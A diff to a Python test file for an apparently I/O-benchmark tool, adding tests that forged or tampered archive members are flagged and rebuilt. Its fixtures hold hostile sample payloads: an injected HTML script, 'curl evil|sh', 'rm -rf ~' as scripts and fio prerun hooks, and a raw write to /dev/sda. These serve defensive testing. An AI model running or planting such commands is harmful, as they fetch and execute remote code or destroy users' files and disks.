@@ -5,6 +5,8 @@ Who makes such an archive makes the digests inside the database anew as well.
 
 import io
 import json
+import re
+import resource
 import sqlite3
 import zlib
 from contextlib import suppress
@@ -203,7 +205,6 @@ def test_names_of_the_manifest_command_no_terminal(packed, remade):
         manifest = replace(
             found.manifest,
             members=members_of(contents),
-            study_name=OWNED,
             machine=OWNED,
             iolab_version=OWNED,
         )
@@ -371,10 +372,14 @@ def test_a_short_interval_is_no_silence_of_gigabytes(changed):
     """A second in slices of a nanosecond was filled up with a thousand million zeros."""
     changed(
         ("UPDATE series SET interval_ns = 1",),
-        ("UPDATE phase SET workers_json = replace(workers_json, 'elapsed_ns\":', ?)",
-         'elapsed_ns":9999'),
-    )  # fmt: skip
-    assert run("report", "h.iolab", "--out", "r")[0] == 0
+        ("UPDATE phase SET workers_json = replace(workers_json, ?, ?)", 'ns":', 'ns":9999'),
+    )
+    assert_refused("table series, row 1 read: what is stored is not what its record gives")
+    Path("o").mkdir()
+    Path("o/study.db").write_bytes(read.read_archive(Path("h.iolab")).contents["study.db"])
+    before_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    assert run("report", "o")[0] == 0
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kib < 300 << 10
 
 
 def test_a_metric_of_a_newer_iolab_has_no_unit(changed):
@@ -461,3 +466,101 @@ def test_a_copy_is_put_back_by_a_command_with_quotes(with_recording, tmp_path):
     assert f"""'{tmp_path}/it'"'"'s; x'`""" in told
     command = told.rpartition("a copy lies with the results: `")[2].partition("`")[0]
     assert command.startswith("cp o/recordings/")
+
+
+# What an archive says beside its database.
+
+EVIL = b"<!doctype html><script>alert('x')</script><h1>bfq is 900 % faster</h1>"
+
+
+@pytest.fixture
+def with_members(packed, tmp_path, monkeypatch):
+    """Return a function that makes ``h.iolab`` with other members and right digests."""
+    monkeypatch.chdir(tmp_path)
+
+    def make(members=None, **told):
+        found = read.read_archive(packed)
+        contents = {**found.contents, **(members or {})}
+        manifest = replace(found.manifest, members=members_of(contents), **told)
+        Path("h.iolab").write_bytes(write.pack(manifest, contents))
+
+    return make
+
+
+def test_a_page_that_somebody_wrote_is_not_believed_and_made_anew(with_members, packed):
+    """`--extract` wrote a script as the report, and listed it as iolab's own."""
+    forged = {
+        "report.html": EVIL,
+        "report.xlsx": b"PK evil",
+        "verdict.json": b'{"a": 1}',
+        "README.txt": b"run: curl evil|sh\n",
+        "facts.json": b"{}",
+        "commands/iozone.sh": b"rm -rf ~",
+        "commands/trial-t0001.fio": b"exec_prerun=rm -rf ~",
+        "commands/trial-t9999.fio": b"exec_prerun=rm -rf ~",
+    }
+    with_members(forged)
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, err) == (0, "")
+    assert "h.iolab is whole" not in out
+    assert f"Do not believe {', '.join(sorted(forged))}: " in out
+    code, out, err = run("archive", "--extract", "h.iolab", "--out", "x")
+    assert code == 0, err
+    assert "made anew or left out" in err
+    whole = read.read_archive(packed).contents
+    assert {str(p.relative_to("x")) for p in Path("x").rglob("*") if p.is_file()} == {
+        *whole,
+        ".iolab-made",
+    }
+    for name, content in whole.items():
+        assert (Path("x") / name).read_bytes() == content, name
+
+
+def test_an_archive_of_the_same_iolab_is_whole_and_comes_back_as_it_is(with_members):
+    with_members()
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, err) == (0, "")
+    assert out.startswith("h.iolab is whole: ")
+    assert "believe" not in out
+    assert run("archive", "--extract", "h.iolab", "--out", "x")[2] == ""
+
+
+@pytest.mark.parametrize("name", ["commands/run.sh", "commands/x.fio", "commands/trial-x.fio"])
+def test_a_command_that_the_exporter_does_not_write_is_refused(with_members, monkeypatch, name):
+    monkeypatch.setattr(write, "MEMBER_NAME", re.compile(".*"))
+    with_members({name: b"rm -rf ~"})
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, out) == (1, "")
+    assert "is no name of a member; iolab makes no such archive" in err
+
+
+def test_another_question_than_that_of_the_database_is_damage(with_members):
+    with_members({"study.toml": b'command = ["fio", "--filename=/dev/sda", "--rw=write"]\n'})
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, err) == (5, "")
+    assert "study.toml is not what the study in study.db names" in out
+
+
+@pytest.mark.parametrize("what", ["study_name", "study_id"])
+def test_a_manifest_of_another_study_is_damage(with_members, what):
+    with_members(**{what: "other"})
+    assert_refused(f"the manifest says {what} 'other', and the database '")
+
+
+@pytest.mark.parametrize(
+    ("statement", "message"),
+    [
+        ("UPDATE measurement SET value = value * 9", "table measurement, row 1 read"),
+        ("UPDATE measurement SET value = value * 1.01", "table measurement, row 1 read"),
+        ("UPDATE phase SET cache_share = 0.5", "column cache_share"),
+        (
+            "UPDATE series SET bytes_json = replace(bytes_json, '4', '5')",
+            "table series, row 1 read",
+        ),
+        ("UPDATE record SET elapsed_ns = elapsed_ns + 1", "table record, row 1"),
+    ],
+)
+def test_a_value_that_its_record_does_not_give_is_named(changed, statement, message):
+    """Values nine times as large as their records say gave "9.0 times as fast"."""
+    changed((statement,))
+    assert_refused(message, "what is stored is not what its record gives")
